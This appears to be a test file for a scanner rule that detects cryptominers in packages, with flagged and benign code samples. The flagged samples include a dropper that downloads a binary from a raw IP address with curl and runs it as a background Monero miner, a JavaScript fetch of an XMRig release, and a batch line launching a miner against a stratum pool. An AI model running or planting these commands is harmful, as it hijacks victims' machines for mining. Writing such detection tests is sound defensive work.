import { ruleTable } from "../helpers.js";

ruleTable("cryptominer", {
  fail: [
    { name: "ua-parser-js shell dropper", shellScript: true, code: "curl http://159.148.186.228/download/jsextension -o jsextension\nchmod +x jsextension\n./jsextension -k --tls --rig-id q -o pool.minexmr.com:443 --donate-level=1 --background\n", atLeast: "critical" },
    { name: "XMRig release fetched from JavaScript", code: "require('https').get('https://github.com/xmrig/xmrig/releases/download/v6.22.0/xmrig-linux-static-x64.tar.gz', save);", atLeast: "high" },
    { name: "stratum URL in a batch file", shellScript: true, code: "start /B miner.exe -o stratum+tcp://pool.supportxmr.com:3333 -u wallet", atLeast: "critical" },
  ],
  pass: [
    { name: "the word mining in prose", code: "// data mining helpers; see docs for the mining pool of examples\nmodule.exports = mine;" },
    { name: "a stratum-like word", code: "const layers = { stratum: 1, stratosphere: 2 };" },
  ],
});
